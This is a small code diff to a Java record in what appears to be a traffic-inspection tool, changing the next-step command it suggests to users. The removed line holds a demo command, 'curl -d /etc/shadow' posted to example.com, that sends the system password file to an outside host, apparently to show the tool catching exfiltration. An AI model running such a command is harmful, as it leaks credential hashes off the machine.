@@ -70,7 +70,7 @@ record Ready(
   }
 
   private String next() {
-    return "traffic-guardian run %s-- curl -d /etc/shadow %s://example.com/, then traffic-guardian findings"
-        .formatted(inspectsHttps ? "--trust-ca " : "", inspectsHttps ? "https" : "http");
+    return "traffic-guardian doctor, then traffic-guardian run %s-- YOUR-AGENT"
+        .formatted(inspectsHttps ? "--trust-ca " : "");
   }
 }
